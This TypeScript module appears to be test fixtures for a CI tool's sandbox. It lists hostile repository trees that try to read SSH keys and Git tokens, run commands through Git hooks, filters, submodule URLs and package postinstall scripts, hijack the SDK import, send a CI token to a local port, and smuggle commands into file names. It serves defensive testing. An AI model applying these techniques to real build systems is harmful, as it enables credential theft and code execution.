// SPDX-License-Identifier: MIT
/**
 * What strangers propose: trees of files that try to read, run or send what
 * is not theirs. In them `HOME` is a home folder with a key, `REPO` the
 * checkout, `PORT` a port that listens, and `touch PWNED` what must not run.
 *
 * @module
 */

/** A tree of a stranger. */
export interface Proposal {
  /** Files by path; what begins with `-> ` is a link. */
  readonly files: Readonly<Record<string, string>>;
  /** The config to look at. */
  readonly config: string;
  /** Appended to the configuration of Git in the checkout. */
  readonly gitConfig?: string;
  /** Exit codes that looking may end with; 4 and 6 when absent. */
  readonly exits?: readonly number[];
}

const STAR =
  'def f():\n  shell("touch PWNED")\n  return done()\n\ntask(f, "f")\n';

const TS = `import { fn, release, task } from "@ocuroot/sdk";
export const f = fn(async (_: Record<string, never>, { host }) => {
  await host.shell("touch PWNED");
});
export default release(() => [task("f", f)]);
`;

const EVIL = `Deno.writeTextFileSync("REPO/PWNED", "x");
await fetch("http://127.0.0.1:PORT/evil");
export const done = () => {}, fn = done, release = done, task = done;
`;

/** Proposals by what they try. */
export const PROPOSALS: Readonly<Record<string, Proposal>> = {
  "import a key as text": {
    config: "p.ocu.ts",
    files: {
      "p.ocu.ts":
        `import key from "HOME/.ssh/id_ed25519" with { type: "text" };\nconsole.log(key);\n${TS}`,
    },
  },
  "import the token of Git as text": {
    config: "p.ocu.ts",
    files: {
      "p.ocu.ts":
        `import token from "./.git/config" with { type: "text" };\nconsole.log(token);\n${TS}`,
    },
  },
  "read the token of Git": {
    config: "p.ocu.star",
    files: { "p.ocu.star": `print(host.read_file(".git/config"))\n${STAR}` },
  },
  "read a key by its path": {
    config: "p.ocu.star",
    files: { "p.ocu.star": `print(host.read_file("HOME/.ssh/id_ed25519"))\n` },
  },
  "run a command when it loads": {
    config: "p.ocu.star",
    files: { "p.ocu.star": `shell("touch REPO/PWNED")\n${STAR}` },
  },
  "send a request when it loads": {
    config: "p.ocu.star",
    files: { "p.ocu.star": 'http.get("http://127.0.0.1:PORT/x")\n' },
  },
  "start programs of a policy of its own": {
    config: "p.ocu.star",
    files: {
      "repo.ocu.star":
        'ocuroot("0.3.0")\nrepo_alias("test")\nsandbox(programs=["sh", "touch"], hosts=["127.0.0.1"], env=["*"], read=["/"], write=["/"])\nstore.set(store.fs(".store"))\n',
      "p.ocu.star": 'host.exec(["touch", "REPO/PWNED"])\n',
    },
  },
  "a repo config that acts when it loads": {
    config: "p.ocu.star",
    exits: [0],
    files: {
      "repo.ocu.star": `ocuroot("0.3.0")
shell("touch REPO/PWNED")
http.get("http://127.0.0.1:PORT/" + host.env()["CI_TOKEN"])
repo_alias("evil")
store.set(store.git("http://127.0.0.1:PORT/evil.git", branch="state"))
`,
      "p.ocu.star": STAR,
    },
  },
  "a repo config in TypeScript that acts when it loads": {
    config: "p.ocu.ts",
    exits: [0],
    files: {
      "repo.ocu.ts": `import { fsStore, repo } from "@ocuroot/sdk";
console.log(Deno.env.get("CI_TOKEN"));
export default repo(async ({ host, http }) => {
  await host.shell("touch REPO/PWNED");
  await http.get("http://127.0.0.1:PORT/");
  return { alias: "evil", state: fsStore("HOME/stolen") };
});
`,
      "p.ocu.ts": TS,
    },
  },
  "a trigger": {
    config: "p.ocu.star",
    exits: [0],
    files: {
      "repo.ocu.star": `ocuroot("0.3.0")
repo_alias("test")
def t(commit):
  shell("touch REPO/PWNED")
trigger(t)
store.set(store.fs("HOME/stolen"))
`,
      "p.ocu.star": STAR,
    },
  },
  "hooks, filters and monitors of Git": {
    config: "p.ocu.star",
    exits: [0],
    gitConfig: `[core]
\tfsmonitor = touch REPO/PWNED
\thooksPath = REPO/hooks
\tsshCommand = touch REPO/PWNED
\tpager = touch REPO/PWNED
[filter "x"]
\tclean = touch REPO/PWNED
\tsmudge = touch REPO/PWNED
\tprocess = touch REPO/PWNED
\trequired = true
[diff]
\texternal = touch REPO/PWNED
[diff "x"]
\ttextconv = touch REPO/PWNED
[alias]
\trev-parse = !touch REPO/PWNED
\tls-tree = !touch REPO/PWNED
`,
    files: {
      ".gitattributes": "* filter=x diff=x\n",
      "hooks/post-checkout": "#!/bin/sh\ntouch REPO/PWNED\n",
      "hooks/pre-commit": "#!/bin/sh\ntouch REPO/PWNED\n",
      "p.ocu.star": STAR,
    },
  },
  "submodules": {
    config: "p.ocu.star",
    exits: [0],
    files: {
      ".gitmodules":
        '[submodule "a"]\n\tpath = a\n\turl = ext::sh -c touch% REPO/PWNED\n\tupdate = !touch REPO/PWNED\n',
      "p.ocu.star": STAR,
    },
  },
  "a config that is a link": {
    config: "p.ocu.star",
    files: { "p.ocu.star": "-> HOME/.ssh/id_ed25519" },
  },
  "a config in TypeScript that is a link": {
    config: "p.ocu.ts",
    files: { "p.ocu.ts": "-> HOME/.ssh/id_ed25519" },
  },
  "a module that is a link": {
    config: "p.ocu.star",
    files: {
      "m.star": "-> HOME/.ssh/id_ed25519",
      "p.ocu.star": 'load("m.star", "x")\n',
    },
  },
  "a module in TypeScript that is a link": {
    config: "p.ocu.ts",
    files: {
      "m.ts": "-> HOME/.ssh/id_ed25519",
      "p.ocu.ts": 'import "./m.ts";\n',
    },
  },
  "a folder that is a link": {
    config: "p.ocu.star",
    files: {
      "d": "-> HOME",
      "p.ocu.star": 'print(host.read_file("d/.ssh/id_ed25519"))\n',
    },
  },
  "settings of Deno": {
    config: "p.ocu.ts",
    exits: [0],
    files: {
      "deno.json": JSON.stringify({
        imports: {
          "@ocuroot/sdk": "./evil.ts",
          "jsr:@ocuroot/sdk": "./evil.ts",
        },
        permissions: { default: { all: true } },
        preload: ["./evil.ts"],
        compilerOptions: { types: ["./evil.ts"] },
        unstable: ["sloppy-imports"],
        nodeModulesDir: "auto",
      }),
      "evil.ts": EVIL,
      "p.ocu.ts": TS,
    },
  },
  "settings of npm": {
    config: "p.ocu.ts",
    files: {
      ".npmrc": "registry=http://127.0.0.1:PORT/\n",
      "deno.lock": JSON.stringify({
        version: "5",
        specifiers: { "npm:evil@1": "1.0.0" },
        npm: { "evil@1.0.0": { tarball: "http://127.0.0.1:PORT/evil.tgz" } },
      }),
      "p.ocu.ts": `import "npm:evil@1";\n${TS}`,
    },
  },
  "packages of its own": {
    config: "p.ocu.ts",
    exits: [0],
    files: {
      "package.json": JSON.stringify({
        name: "@ocuroot/sdk",
        type: "module",
        main: "./evil.ts",
        dependencies: { "@ocuroot/sdk": "file:./evil" },
        scripts: { postinstall: "touch REPO/PWNED" },
      }),
      "node_modules/@ocuroot/sdk/package.json":
        '{"name":"@ocuroot/sdk","main":"./mod.js","type":"module"}',
      "node_modules/@ocuroot/sdk/mod.js": EVIL,
      "evil.ts": EVIL,
      "p.ocu.ts": TS,
    },
  },
  "a module with the name of the SDK": {
    config: "p.ocu.ts",
    files: {
      "@ocuroot/sdk.ts": EVIL,
      "p.ocu.ts": TS.replace('"@ocuroot/sdk"', '"./@ocuroot/sdk.ts"'),
    },
  },
  "variables of the operator": {
    config: "p.ocu.star",
    exits: [0],
    files: {
      ".env": "OCU_CFG_repo_alias=evil\nOCUROOT_UNTRUSTED=0\n",
      "p.ocu.star": "print(host.env())\nenv = host.env()\nprint(len(env))\n" +
        STAR,
    },
  },
  "variables of the operator in TypeScript": {
    config: "p.ocu.ts",
    files: {
      "p.ocu.ts": `console.log(Deno.env.toObject());\n${TS}`,
    },
  },
  "a graph without end": {
    config: "p.ocu.ts",
    files: {
      ...Object.fromEntries(
        Array.from(
          { length: 2001 },
          (_, i) => [`m/${i}.ts`, `import "./${i + 1}.ts";\n`],
        ),
      ),
      "m/2001.ts": "",
      "p.ocu.ts": `import "./m/0.ts";\n${TS}`,
    },
  },
  "names that are code": {
    config: "p.ocu.star",
    exits: [0],
    files: {
      "$(touch PWNED).ocu.star": STAR,
      "-rf.ocu.star": STAR,
      "--upload-pack=touch PWNED.ocu.star": STAR,
      "\x1b]0;owned\x07.ocu.star": "x = (\n",
      "\u202erats.uco.star": STAR,
      "a\nb.ocu.star": "x = (\n",
      "p.ocu.star": STAR,
    },
  },
  "a marker of a store": {
    config: "p.ocu.star",
    exits: [1],
    files: {
      ".ocuroot-store": '{"Version":4,"Tags":{"state":{}}}',
      "p.ocu.star": STAR,
    },
  },
};
